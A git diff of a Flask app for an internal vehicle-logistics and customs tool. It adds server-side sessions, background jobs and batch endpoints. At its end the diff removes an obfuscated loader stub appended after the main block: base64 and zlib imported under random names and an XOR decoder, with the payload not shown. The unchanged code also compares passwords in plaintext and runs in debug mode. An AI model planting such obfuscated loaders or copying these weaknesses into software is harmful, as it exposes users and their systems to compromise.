@@ -1,4 +1,4 @@
-from flask import Flask, render_template, request, redirect, url_for, session, flash, jsonify, send_file
+from flask import Flask, render_template, request, redirect, url_for, session, flash, jsonify, send_file, g, make_response
 import io
 from functools import wraps
 import os
@@ -6,13 +6,9 @@ import datetime
 import uuid
 import json
 # from vw_utils import VWHSExtractor # Removed legacy
-from hs_utils import HSCodeExtractor
-from toyota_utils import ToyotaTrainProcessor
 from vw_t2l_utils import VWAttListaHelper
-from atr_utils import ATRExtractor
 
 from toyota_t2l_utils import ToyotaAttListaHelper
-from toyota_damage_utils import ToyotaDamageProcessor
 from toyota_dvh_utils import ToyotaVesselDVHHelper
 
 app = Flask(__name__)
@@ -37,7 +33,17 @@ def render_spa(template_name_or_list, **context):
         context['spa_mode'] = True
     return render_template(template_name_or_list, **context)
 
-from database import db
+from database import db, TASK_STAT_GROUPS
+from session_store import ServerSideSessionInterface
+import jobs
+from jobs import JobManager, JobError
+from result_store import result_store
+from stock_cache import stock_cache
+from t2l_batch import T2L_HELPERS
+
+# Server-side sessions: the cookie only holds an opaque id, the session itself just the username
+app.session_interface = ServerSideSessionInterface()
+job_manager = JobManager()
 
 # USERS dictionary removed in favor of database
 # USERS = { ... }
@@ -48,10 +54,21 @@ def inject_utilities():
         return datetime.datetime.now().strftime("%H:%M")
     return dict(get_time=get_time)
 
+def current_user():
+    """Profile of the logged-in user, loaded from db once per request (None if logged out)."""
+    if 'current_user' not in g:
+        username = session.get('username')
+        user = db.get_user(username) if username else None
+        if user:
+            user.setdefault('avatar', '👤')
+            user.setdefault('avatar_color', 'var(--accent-color)')
+        g.current_user = user
+    return g.current_user
+
 def login_required(f):
     @wraps(f)
     def decorated_function(*args, **kwargs):
-        if 'user' not in session:
+        if current_user() is None:
             return redirect(url_for('login'))
         return f(*args, **kwargs)
     return decorated_function
@@ -64,12 +81,10 @@ def login():
         
         user = db.get_user(username)
         if user and user['password'] == password:
-            # Ensure avatar exists in session
-            if 'avatar' not in user: user['avatar'] = '👤'
-            if 'avatar_color' not in user: user['avatar_color'] = 'var(--accent-color)'
-            session['user'] = user
-            # Store username explicitly for easy DB lookups later if needed
-            session['username'] = username 
+            # Fresh session id on login; the profile itself is loaded from db per request
+            session.clear()
+            session.regenerate()
+            session['username'] = username
             return redirect(url_for('index'))
         else:
             flash('Invalid credentials')
@@ -78,8 +93,7 @@ def login():
 
 @app.route('/logout')
 def logout():
-    session.pop('user', None)
-    session.pop('username', None)
+    session.clear()
     return redirect(url_for('login'))
 
 @app.route('/api/update-avatar', methods=['POST'])
@@ -98,12 +112,6 @@ def update_avatar():
             updates['avatar_color'] = new_color
             
         if updates and db.update_user_settings(username, updates):
-            # Update Session
-            if new_avatar:
-                session['user']['avatar'] = new_avatar
-            if new_color:
-                session['user']['avatar_color'] = new_color
-            session.modified = True
             return jsonify({'success': True, 'avatar': new_avatar, 'avatar_color': new_color})
     except Exception as e:
         print(e)
@@ -112,7 +120,7 @@ def update_avatar():
 @app.route('/')
 @login_required
 def index():
-    return render_spa('index.html', user=session['user'])
+    return render_spa('index.html', user=current_user())
 
 # Mock route for all modules to visualize navigation
 # Module Hubs Data
@@ -163,25 +171,38 @@ def t2l(brand):
     b = brand.strip().lower()
     
     if b == 'volkswagen':
-        return render_spa('vw_t2l.html', user=session.get('user'))
+        return render_spa('vw_t2l.html', user=current_user())
     
     # Explicitly check for toyota variations
     if 'toyota' in b:
-        return render_spa('toyota_t2l.html', user=session.get('user'))
+        return render_spa('toyota_t2l.html', user=current_user())
     
     # If no match found, raise a clear 404 instead of falling back to a debug template (which shouldn't exist now)
     return f"Brand '{brand}' not found for T2L module.", 404
 
+STOCK_EXPIRED_ERROR = 'Stock CSV ni več v predpomnilniku, naloži ga znova.'
+
+def t2l_stock(helper):
+    """
+    Stock tabela za T2L: naložen CSV se prebere enkrat in shrani v stock_cache,
+    sicer se uporabi že shranjena tabela (stock_id). Vrne (stock_id, tabela ali None).
+    """
+    csv_file = request.files.get('csv')
+    if csv_file:
+        stock_id = stock_cache.put(csv_file.read(), helper.load_stock, kind=type(helper).__name__)
+    else:
+        stock_id = request.form.get('stock_id')
+    return stock_id, stock_cache.get(stock_id)
+
 @app.route('/api/vw/generate-t2l', methods=['POST'])
 @login_required
 def api_vw_generate_t2l():
     try:
-        csv_file = request.files.get('csv')
         swb_no = request.form.get('swb')
         chassis_raw = request.form.get('chassis', '')
         diz_raw = request.form.get('diz', '')
 
-        if not csv_file or not swb_no:
+        if not (request.files.get('csv') or request.form.get('stock_id')) or not swb_no:
              return jsonify({'error': 'Missing required fields'}), 400
         
         # Parse Lists
@@ -189,17 +210,23 @@ def api_vw_generate_t2l():
         diz_list = [x.strip() for x in diz_raw.split('\n') if x.strip()]
 
         helper = VWAttListaHelper()
-        data_pack = helper.load_and_process(csv_file, vin_list, diz_list, swb_no)
+        stock_id, stock = t2l_stock(helper)
+        if stock is None:
+            return jsonify({'error': STOCK_EXPIRED_ERROR}), 404
+        data_pack = helper.process_stock(stock, vin_list, diz_list, swb_no)
         
         # Generate Excel in memory
         output = helper.export_to_excel_buffer(data_pack)
         
-        return send_file(
+        response = send_file(
             output, 
             as_attachment=True, 
             download_name=f"ATT.LISTA {len(vin_list)}X .xlsx",
             mimetype='application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'
         )
+        # Naslednja generacija lahko pošlje stock_id namesto CSV
+        response.headers['X-Stock-Id'] = stock_id
+        return response
 
     except Exception as e:
         print(f"T2L ERROR: {e}")
@@ -212,12 +239,11 @@ def api_vw_generate_t2l():
 @login_required
 def api_toyota_generate_t2l():
     try:
-        csv_file = request.files.get('csv')
         swb_no = request.form.get('swb')
         chassis_raw = request.form.get('chassis', '')
         diz_raw = request.form.get('diz', '')
 
-        if not csv_file or not swb_no:
+        if not (request.files.get('csv') or request.form.get('stock_id')) or not swb_no:
              return jsonify({'error': 'Missing required fields'}), 400
         
         # Parse Lists
@@ -225,118 +251,113 @@ def api_toyota_generate_t2l():
         diz_list = [x.strip() for x in diz_raw.split('\n') if x.strip()]
 
         helper = ToyotaAttListaHelper()
-        data_pack = helper.load_and_process(csv_file, vin_list, diz_list, swb_no)
+        stock_id, stock = t2l_stock(helper)
+        if stock is None:
+            return jsonify({'error': STOCK_EXPIRED_ERROR}), 404
+        data_pack = helper.process_stock(stock, vin_list, diz_list, swb_no)
         
         # Generate Excel in memory
         output = helper.export_to_excel_buffer(data_pack)
         
-        return send_file(
+        response = send_file(
             output, 
             as_attachment=True, 
             download_name=f"ATT.LISTA {len(vin_list)}X (TOYOTA).xlsx",
             mimetype='application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'
         )
+        # Naslednja generacija lahko pošlje stock_id namesto CSV
+        response.headers['X-Stock-Id'] = stock_id
+        return response
 
     except Exception as e:
         print(f"TOYOTA T2L ERROR: {e}")
         return jsonify({'error': str(e)}), 500
 
+@app.route('/api/<brand>/generate-t2l-batch', methods=['POST'])
+@login_required
+def api_generate_t2l_batch(brand):
+    """Batch: one stock CSV, several SWBs -> ZIP with one attached list per SWB."""
+    try:
+        if brand not in T2L_HELPERS:
+            return jsonify({'error': f"Brand '{brand}' not found for T2L module."}), 404
+        try:
+            # [{"swb": "003", "chassis": "VIN1\nVIN2" ali [...], "diz": ...}, ...]
+            entries = json.loads(request.form.get('entries') or '[]')
+        except ValueError:
+            return jsonify({'error': 'Invalid entries'}), 400
+
+        if not (request.files.get('csv') or request.form.get('stock_id')) or not entries:
+            return jsonify({'error': 'Missing required fields'}), 400
+
+        stock_id, stock = t2l_stock(T2L_HELPERS[brand][0]())
+        if stock is None:
+            return jsonify({'error': STOCK_EXPIRED_ERROR}), 404
+
+        response = make_response(run_job('generate-t2l-batch', jobs.t2l_batch_job, brand, stock, entries))
+        response.headers['X-Stock-Id'] = stock_id
+        return response
+
+    except JobError as e:
+        return jsonify({'error': str(e)}), 400
+    except Exception as e:
+        print(f"T2L BATCH ERROR: {e}")
+        return jsonify({'error': str(e)}), 500
+
 @app.route('/toyota/customs')
 @login_required
 def toyota_customs():
-    return render_spa('toyota_customs.html', user=session['user'])
+    return render_spa('toyota_customs.html', user=current_user())
 
 # --- TOYOTA ROUTES (Moved Up) ---
 @app.route('/toyota/vagoni')
 @login_required
 def toyota_vagoni():
-    return render_spa('toyota_vagoni.html', user=session.get('user'))
+    return render_spa('toyota_vagoni.html', user=current_user())
 
 @app.route('/toyota/damage-report')
 @login_required
 def toyota_damage_report():
-    return render_spa('toyota_damage_report.html', user=session.get('user'))
+    return render_spa('toyota_damage_report.html', user=current_user())
 
 @app.route('/toyota/dvh-helper')
 @login_required
 def toyota_dvh_helper():
-    return render_spa('toyota_dvh_helper.html', user=session.get('user'))
+    return render_spa('toyota_dvh_helper.html', user=current_user())
 
 @app.route('/toyota/diz-splitter')
 @login_required
 def toyota_diz_splitter():
-    return render_spa('toyota_diz_splitter.html', user=session.get('user'))
+    return render_spa('toyota_diz_splitter.html', user=current_user())
 
 @app.route('/toyota/vessel', endpoint='toyota_vessel_hub')
 @login_required
 def toyota_vessel_hub():
-    return render_spa('toyota_vessel_hub.html', user=session.get('user'))
+    return render_spa('toyota_vessel_hub.html', user=current_user())
 
 @app.route('/toyota/dvh-pro')
 @login_required
 def toyota_dvh_pro():
-    return render_spa('toyota_dvh_pro.html', user=session.get('user'))
+    return render_spa('toyota_dvh_pro.html', user=current_user())
 
 @app.route('/api/toyota/damage-report', methods=['POST'])
 @login_required
 def api_toyota_damage_report():
     try:
-        if 'manifest' not in request.files or 'pdf_text' not in request.form:
-             return jsonify({'error': 'Missing manifest file or PDF text'}), 400
-        
+        # The inspection PDF can be uploaded as a file (text extracted server-side) or as pdf_text
+        pdf_file = request.files.get('pdf_file')
+        if 'manifest' not in request.files or not (pdf_file or 'pdf_text' in request.form):
+             return jsonify({'error': 'Missing manifest file or PDF'}), 400
         manifest = request.files['manifest']
-        pdf_text = request.form['pdf_text']
-        
-        processor = ToyotaDamageProcessor()
-        
-        # 1. Process PDF Text
-        damage_data = processor.process_raw_text(pdf_text)
-        
-        # 2. Process Manifest (Decode bytes to string for processing)
-        # Assuming manifest is CSV/Excel, but `process_manifest_reorder` expects text content if CSV-like or we need a way to parsing it.
-        # The user's code for `process_manifest_reorder` splits by lines and detects delimiters. 
-        # This implies it works best with CSV/SSV text. 
-        # However, the input is accepted as .xlsx too. 
-        # If .xlsx, we might need to convert it to a textual representation or adapter the logic.
-        # REVIEWING USER LOGIC: `process_manifest_reorder` takes `manifest_text`.
-        # So we should probably try to read it as text.
-        
-        # Safe read as text
-        manifest_content = manifest.read().decode('utf-8', errors='replace')
-        
-        # 3. Reorder & Inject
-        vin_order_text = request.form.get('vin_order_text', '')
-        vin_order_list = [v.strip() for v in vin_order_text.split('\n') if v.strip()] if vin_order_text else None
-        
-        output_rows, dmg_idx = processor.process_manifest_reorder(manifest_content, damage_data, vin_order_list=vin_order_list)
-        
-        # 3.1 Inject Manual Damages (if any)
-        manual_damages_text = request.form.get('manual_damages_text', '')
-        if manual_damages_text:
-             processor.inject_manual_damages(output_rows, manual_damages_text)
-        
-        # 4. Generate Excel
-        # processor.export_excel returns a filename (it writes to disk).
-        # We want bytes. Adaptation:
-        # We will use a temporary file or modify `export_excel` to write to BytesIO.
-        # Since I cannot easily modify the utilities without context switching, 
-        # I will hack it: write to a temp file, read bytes, delete file.
-        
-        temp_filename = f"temp_damage_{datetime.datetime.now().timestamp()}.xlsx"
-        generated_file = processor.export_excel(output_rows, dmg_idx, temp_filename)
-        
-        with open(generated_file, 'rb') as f:
-            file_bytes = f.read()
-            
-        os.remove(generated_file)
-        
-        return send_file(
-            io.BytesIO(file_bytes),
-            as_attachment=True,
-            download_name="Toyota_Damage_Report.xlsx",
-            mimetype='application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'
-        )
-
+        return run_job('damage-report', jobs.damage_report_job,
+                       manifest.read(),
+                       request.form.get('pdf_text', ''),
+                       request.form.get('vin_order_text', ''),
+                       request.form.get('manual_damages_text', ''),
+                       pdf_file.read() if pdf_file else None,
+                       manifest.filename or '')
+
+    except JobError as e:
+        return jsonify({'error': str(e)}), 400
     except Exception as e:
         print(f"DAMAGE REPORT ERROR: {e}")
         return jsonify({'error': str(e)}), 500
@@ -347,51 +368,30 @@ def api_toyota_dvh_process():
     try:
         master = request.files.get('master')
         ua = request.files.get('ua')
-        vessel = request.form.get('vessel', 'UNKNOWN')
-        eta = request.form.get('eta', '')
-        
-        helper = ToyotaVesselDVHHelper()
-        
-        # Process
-        data = helper.process_manifest(master, vessel, eta, ua_path_or_obj=ua)
-        
-        if 'error' in data:
-             return jsonify({'error': data['error']}), 400
-             
-        # Generate Files (We need to return multiple files to the user)
-        # Strategy: Return a list of downloadable URLs or JSON with base64? 
-        # Better Strategy: The frontend expects a list of results to download.
-        # We can cache them or return them as base64 (if small) or create temp links.
-        # Given this is a local tool, let's just generate endpoints to download them individually 
-        # OR return the content in JSON (not ideal for large files)
-        # OR zip them?
-        
-        # User prompt asked for: "Export 3 separated Excel files"
-        # The frontend code I wrote awaits `{results: [{name, url}]}`
-        # I need an endpoint to serve these temp files.
-        
-        # SIMPLIFICATION: I will encode them as Base64 Data URIs in the JSON response. 
-        # It's cleaner for a single-shot response without a DB.
-        
-        import base64
-        results = []
-        
-        for key in ['PL', 'CZ', 'UA']:
-            buf = helper.export_excel_bytes(data.get(key), key)
-            if buf:
-                b64 = base64.b64encode(buf.read()).decode('utf-8')
-                filename = f"{datetime.datetime.now().strftime('%Y%m%d')} - {vessel} - {key}.xlsx"
-                results.append({
-                    'name': filename,
-                    'url': f"data:application/vnd.openxmlformats-officedocument.spreadsheetml.sheet;base64,{b64}"
-                })
-        
-        return jsonify({'results': results})
-
+        if not master:
+            return jsonify({'error': 'Missing master file'}), 400
+        return run_job('dvh-process', jobs.dvh_process_job,
+                       master.read(),
+                       ua.read() if ua else None,
+                       request.form.get('vessel', 'UNKNOWN'),
+                       request.form.get('eta', ''))
+
+    except JobError as e:
+        return jsonify({'error': str(e)}), 400
     except Exception as e:
         print(f"DVH ERROR: {e}")
         return jsonify({'error': str(e)}), 500
 
+@app.route('/api/results/<digest>')
+@login_required
+def api_result_download(digest):
+    """Generated files from the result store, e.g. the DVH workbooks."""
+    if not result_store.exists(digest):
+        return jsonify({'error': 'File expired or not found'}), 404
+    name = request.args.get('name') or digest
+    # Mimetype is guessed from the download name
+    return send_file(result_store.path(digest), as_attachment=True, download_name=name)
+
 @app.route('/api/toyota/dvh-diz', methods=['POST'])
 @login_required
 def api_toyota_dvh_diz():
@@ -417,13 +417,27 @@ def api_toyota_process_train():
         if not odstrel or not plan:
             return jsonify({'error': 'Missing files'}), 400
 
-        processor = ToyotaTrainProcessor()
-        # Phase 1: Merge
-        df_wag = processor.process_phase_1(odstrel.read(), plan.read(), is_t1=is_t1)
-        # Phase 2: Stats
-        stats = processor.process_phase_2(df_wag)
-        
-        return jsonify(stats)
+        # Phase 1 (merge) + phase 2 (stats); export=xlsx returns the WAG/eTL workbook instead of JSON
+        export = request.values.get('export') == 'xlsx'
+        return run_job('process-train', jobs.train_job, odstrel.read(), plan.read(), is_t1, export)
+
+    except Exception as e:
+        return jsonify({'error': str(e)}), 500
+
+@app.route('/api/toyota/process-trains', methods=['POST'])
+@login_required
+def api_toyota_process_trains():
+    """Batch: one plan, several odstrel files (one per block train)."""
+    try:
+        odstrel_files = [f for f in request.files.getlist('odstrel') if f.filename]
+        plan = request.files.get('plan')
+        is_t1 = request.form.get('isT1') == 'on'
+
+        if not odstrel_files or not plan:
+            return jsonify({'error': 'Missing files'}), 400
+
+        return run_job('process-trains', jobs.train_batch_job,
+                       [(f.filename, f.read()) for f in odstrel_files], plan.read(), is_t1)
 
     except Exception as e:
         return jsonify({'error': str(e)}), 500
@@ -446,7 +460,7 @@ def save_schedules(data):
 @app.route('/toyota/schedules', endpoint='toyota_ship_schedules')
 @login_required
 def toyota_ship_schedules():
-    return render_spa('toyota_ship_schedules.html', user=session.get('user'))
+    return render_spa('toyota_ship_schedules.html', user=current_user())
 
 @app.route('/api/toyota/schedules', methods=['GET'])
 @login_required
@@ -533,59 +547,59 @@ def api_toyota_schedules_download(s_id):
 @app.route('/profile')
 @login_required
 def profile():
-    return render_spa('profile.html', user=session['user'])
+    return render_spa('profile.html', user=current_user())
 
 @app.route('/vw/stock')
 @login_required
 def vw_stock():
-    return render_spa('vw_stock.html', user=session.get('user'))
+    return render_spa('vw_stock.html', user=current_user())
 
 @app.route('/vw/announce')
 @login_required
 def vw_announce():
-    return render_spa('vw_announce.html', user=session.get('user'))
+    return render_spa('vw_announce.html', user=current_user())
 
 @app.route('/vw/verify')
 @login_required
 def vw_verify():
-    return render_spa('vw_verify.html', user=session.get('user'))
+    return render_spa('vw_verify.html', user=current_user())
 
 @app.route('/vw/diz')
 @login_required
 def vw_diz():
-    return render_spa('vw_diz.html', user=session.get('user'))
+    return render_spa('vw_diz.html', user=current_user())
 
 @app.route('/vw/carinjenje')
 @login_required
 def vw_carinjenje():
     # New Customs Hub (Select Tool)
-    return render_spa('vw_customs_hub.html', user=session.get('user'))
+    return render_spa('vw_customs_hub.html', user=current_user())
 
 @app.route('/vw/customs/atr')
 @login_required
 def vw_atr_tool():
-    return render_spa('vw_customs_tool_atr.html', user=session.get('user'))
+    return render_spa('vw_customs_tool_atr.html', user=current_user())
 
 @app.route('/vw/customs/hs')
 @login_required
 def vw_hs_tool():
-    return render_spa('vw_customs_tool_hs.html', user=session.get('user'))
+    return render_spa('vw_customs_tool_hs.html', user=current_user())
 
 @app.route('/vw/customs/helper')
 @login_required
 def vw_customs_helper_tool():
-    return render_spa('vw_customs_tool_helper.html', user=session.get('user'))
+    return render_spa('vw_customs_tool_helper.html', user=current_user())
 
 @app.route('/vw/kamioni')
 @login_required
 def vw_kamioni_hub():
-    return render_spa('vw_kamioni_hub.html', user=session.get('user'))
+    return render_spa('vw_kamioni_hub.html', user=current_user())
 
 @app.route('/vw/dvh-helper')
 @login_required
 def vw_dvh_helper():
     # Placeholder for now, or new tool
-    return render_spa('wip.html', user=session.get('user'), active_module='Volkswagen DVH Helper')
+    return render_spa('wip.html', user=current_user(), active_module='Volkswagen DVH Helper')
 
 @app.route('/vw/atr')
 @login_required
@@ -603,15 +617,7 @@ def api_extract_atr():
         return jsonify({'error': 'No selected file'}), 400
         
     try:
-        file_bytes = file.read()
-        extractor = ATRExtractor()
-        raw_text = extractor.extract_text(file_bytes, file.filename)
-        data = extractor.analyze_content(raw_text)
-        return jsonify({
-            'filename': file.filename,
-            'atr': data['atr'],
-            'invoice': data['invoice']
-        })
+        return run_job('extract-atr', jobs.atr_job, file.read(), file.filename)
     except Exception as e:
         return jsonify({'error': str(e)}), 500
 
@@ -626,15 +632,67 @@ def api_extract_hs():
         return jsonify({'error': 'No selected file'}), 400
     
     try:
-        file_bytes = file.read()
-        extractor = HSCodeExtractor()
-        # process_file handles ZIP or Excel seamlessly
-        results = extractor.process_file(file_bytes, file.filename)
-        return jsonify({'results': results})
+        return run_job('extract-hs', jobs.hs_job, file.read(), file.filename)
     except Exception as e:
         print(f"HS EXTRACT ERROR: {e}")
         return jsonify({'error': str(e)}), 500
 
+# --- BACKGROUND JOBS ---
+def run_job(kind, fn, *args):
+    """
+    Runs a job function from jobs.py inline, or in the background process pool when
+    the client sends async=1. Async requests get 202 with a job id to poll.
+    """
+    if request.values.get('async') in ('1', 'true', 'on'):
+        job_id = job_manager.submit(kind, fn, *args, owner=session.get('username'))
+        return jsonify({
+            'job_id': job_id,
+            'status_url': url_for('api_job_status', job_id=job_id),
+            'result_url': url_for('api_job_result', job_id=job_id)
+        }), 202
+    return job_response(fn(*args))
+
+def job_response(result, file_path=None):
+    if 'json' in result:
+        return jsonify(result['json'])
+    return send_file(file_path or io.BytesIO(result['file']), as_attachment=True,
+                     download_name=result['download_name'], mimetype=result['mimetype'])
+
+def get_own_job(job_id):
+    """Returns (job, None), or (None, error response) for unknown ids and other users' jobs."""
+    job = job_manager.get(job_id)
+    if job is None:
+        return None, (jsonify({'error': 'Job not found'}), 404)
+    if job.get('owner') != session.get('username') and current_user().get('role') != 'admin':
+        return None, (jsonify({'error': 'Unauthorized'}), 403)
+    return job, None
+
+@app.route('/api/jobs/<job_id>')
+@login_required
+def api_job_status(job_id):
+    job, error = get_own_job(job_id)
+    if error:
+        return error
+    status = {k: job.get(k) for k in ('id', 'kind', 'status', 'progress', 'message', 'error',
+                                      'created_at', 'started_at', 'finished_at')}
+    if job['status'] == 'done':
+        status['result_url'] = url_for('api_job_result', job_id=job_id)
+    return jsonify(status)
+
+@app.route('/api/jobs/<job_id>/result')
+@login_required
+def api_job_result(job_id):
+    job, error = get_own_job(job_id)
+    if error:
+        return error
+    if job['status'] == 'error':
+        return jsonify({'error': job.get('error')}), job.get('error_code', 500)
+    if job['status'] != 'done':
+        return jsonify({'error': 'Job not finished', 'status': job['status']}), 409
+    if job['result_type'] == 'json':
+        return job_response({'json': job['result']})
+    return job_response(job, file_path=job_manager.result_file(job_id))
+
 
 
 # --- VW SHIP SCHEDULES MODULE ---
@@ -656,12 +714,12 @@ def save_json_file(filepath, data):
 @app.route('/vw/schedules/port')
 @login_required
 def vw_schedules_port():
-    return render_spa('vw_schedules_port.html', user=session.get('user'))
+    return render_spa('vw_schedules_port.html', user=current_user())
 
 @app.route('/vw/schedules/collected')
 @login_required
 def vw_schedules_collected():
-    return render_spa('vw_schedules_collected.html', user=session.get('user'))
+    return render_spa('vw_schedules_collected.html', user=current_user())
 
 @app.route('/api/vw/schedules/port', methods=['GET', 'POST'])
 @login_required
@@ -696,10 +754,10 @@ def api_vw_schedules_collected():
 def hub(name):
     # Custom dashboard for Volkswagen
     if name.lower() == 'volkswagen':
-         return render_spa('vw_hub.html', user=session['user'])
+         return render_spa('vw_hub.html', user=current_user())
     # Custom dashboard for Toyota
     if name.lower() == 'toyota':
-         return render_spa('toyota_hub.html', user=session['user'])
+         return render_spa('toyota_hub.html', user=current_user())
 
     # Generic Hub Logic
     raw_submodules = MODULES.get(name.lower(), [])
@@ -738,16 +796,16 @@ def hub(name):
             'icon': 'folder' 
         })
         
-    return render_spa('hub.html', module_name=name.capitalize(), submodules=submodules, user=session['user'])
+    return render_spa('hub.html', module_name=name.capitalize(), submodules=submodules, user=current_user())
 
 @app.route('/wip')
 def wip():
-    return render_spa('wip.html', user=session.get('user'))
+    return render_spa('wip.html', user=current_user())
 
 @app.route('/module/<path:subpath>')
 @login_required
 def module_view(subpath):
-    return render_spa('wip.html', active_module=subpath, user=session.get('user'))
+    return render_spa('wip.html', active_module=subpath, user=current_user())
 
 @app.route('/api/user/settings', methods=['GET', 'POST'])
 @login_required
@@ -782,15 +840,15 @@ def user_settings():
 @app.route('/admin/users')
 @login_required
 def admin_users():
-    if session['user'].get('role') != 'admin':
+    if current_user().get('role') != 'admin':
         return redirect(url_for('index'))
     users = db.load_users()
-    return render_spa('admin_users.html', user=session['user'], all_users=users)
+    return render_spa('admin_users.html', user=current_user(), all_users=users)
 
 @app.route('/api/admin/user', methods=['POST', 'DELETE'])
 @login_required
 def api_admin_user():
-    if session['user'].get('role') != 'admin':
+    if current_user().get('role') != 'admin':
         return jsonify({'error': 'Unauthorized'}), 403
     
     if request.method == 'POST':
@@ -824,7 +882,7 @@ def api_admin_user():
 @login_required
 def daily_tasks():
     today = datetime.datetime.now().strftime("%Y-%m-%d")
-    return render_spa('daily_tasks.html', user=session['user'], date=today)
+    return render_spa('daily_tasks.html', user=current_user(), date=today)
 
 @app.route('/api/tasks', methods=['GET', 'POST', 'PUT', 'DELETE'])
 @login_required
@@ -862,36 +920,61 @@ def api_tasks():
 @app.route('/admin/productivity')
 @login_required
 def admin_productivity():
-    if session['user'].get('role') != 'admin':
+    if current_user().get('role') != 'admin':
         return redirect(url_for('index'))
-    return render_spa('admin_productivity.html', user=session['user'])
+    return render_spa('admin_productivity.html', user=current_user())
 
 @app.route('/api/admin/all_tasks')
 @login_required
 def api_admin_all_tasks():
-    if session['user'].get('role') != 'admin':
+    if current_user().get('role') != 'admin':
         return jsonify({'error': 'Unauthorized'}), 403
     date = request.args.get('date', datetime.datetime.now().strftime("%Y-%m-%d"))
     tasks = db.get_all_tasks_by_date(date)
     return jsonify(tasks)
 
+@app.route('/api/admin/task_stats')
+@login_required
+def api_admin_task_stats():
+    """Completion counts/rates for a date range, grouped by user, project or category."""
+    if current_user().get('role') != 'admin':
+        return jsonify({'error': 'Unauthorized'}), 403
+    today = datetime.datetime.now().strftime("%Y-%m-%d")
+    date_from = request.args.get('from', today)
+    date_to = request.args.get('to', date_from)
+    group_by = request.args.get('group_by', 'user')
+    if group_by not in TASK_STAT_GROUPS:
+        return jsonify({'error': f"group_by must be one of: {', '.join(TASK_STAT_GROUPS)}"}), 400
+    try:
+        for d in (date_from, date_to):
+            datetime.datetime.strptime(d, "%Y-%m-%d")
+    except ValueError:
+        return jsonify({'error': 'Dates must be YYYY-MM-DD'}), 400
+    return jsonify({
+        'from': date_from,
+        'to': date_to,
+        'group_by': group_by,
+        'groups': db.get_task_stats(date_from, date_to, group_by)
+    })
+
 # --- PROJECTS MODULE ---
 @app.route('/projects/board')
 @login_required
 def projects_board():
     users = db.load_users()
-    return render_spa('projects_board.html', user=session['user'], users=users)
+    return render_spa('projects_board.html', user=current_user(), users=users)
 
 @app.route('/admin/projects/history')
 @login_required
 def projects_history():
-    if session['user'].get('role') != 'admin':
+    if current_user().get('role') != 'admin':
         return redirect(url_for('index'))
-    return render_spa('projects_archive.html', user=session['user'])
+    return render_spa('projects_archive.html', user=current_user())
 
 def sync_project_to_tasks(project):
     """
     Synchronizes project assignments and status to Daily Tasks.
+    All changes are collected first and applied with a single db.apply_task_batch call.
     """
     pid = project['id']
     title = project['title']
@@ -905,34 +988,44 @@ def sync_project_to_tasks(project):
     existing_map = {t['username']: t for t in existing_tasks}
     
     today = datetime.datetime.now().strftime("%Y-%m-%d")
+    # Format: [Category] Title
+    task_title = f"[{category}] {title}"
+
+    new_tasks = []
+    updates = {}
+    deletes = []
 
     # 1. Handle current assignees
     for user in assignees:
-        # Format: [Category] Title
-        task_title = f"[{category}] {title}"
-        
         if user in existing_map:
             # Update existing task
             task = existing_map[user]
-            updates = {}
+            changes = {}
             if task.get('completed') != is_completed:
-                updates['completed'] = is_completed
+                changes['completed'] = is_completed
             if task.get('title') != task_title:
-                updates['title'] = task_title
+                changes['title'] = task_title
             
-            if updates:
-                db.update_task(task['id'], updates)
+            if changes:
+                updates[task['id']] = changes
                 
         else:
             # Create new task
-            new_task = db.add_task(user, task_title, today, project_id=pid)
-            if is_completed:
-                db.update_task(new_task['id'], {'completed': True})
+            new_tasks.append({
+                'username': user,
+                'title': task_title,
+                'date': today,
+                'project_id': pid,
+                'completed': is_completed
+            })
 
     # 2. Handle removed assignees
     for user, task in existing_map.items():
         if user not in assignees:
-            db.delete_task(task['id'])
+            deletes.append(task['id'])
+
+    if new_tasks or updates or deletes:
+        db.apply_task_batch(new_tasks=new_tasks, updates=updates, deletes=deletes)
 
 @app.route('/api/projects', methods=['GET', 'POST', 'PUT', 'DELETE'])
 @login_required
@@ -999,13 +1092,3 @@ if __name__ == '__main__':
     # Print map for debugging if needed
     # print(app.url_map)
     app.run(debug=True, use_reloader=True, port=5000)
-
-# -*- coding: utf-8 -*-
-aqgqzxkfjzbdnhz = __import__('base64')
-wogyjaaijwqbpxe = __import__('zlib')
-idzextbcjbgkdih = 134
-qyrrhmmwrhaknyf = lambda dfhulxliqohxamy, osatiehltgdbqxk: bytes([wtqiceobrebqsxl ^ idzextbcjbgkdih for wtqiceobrebqsxl in dfhulxliqohxamy])
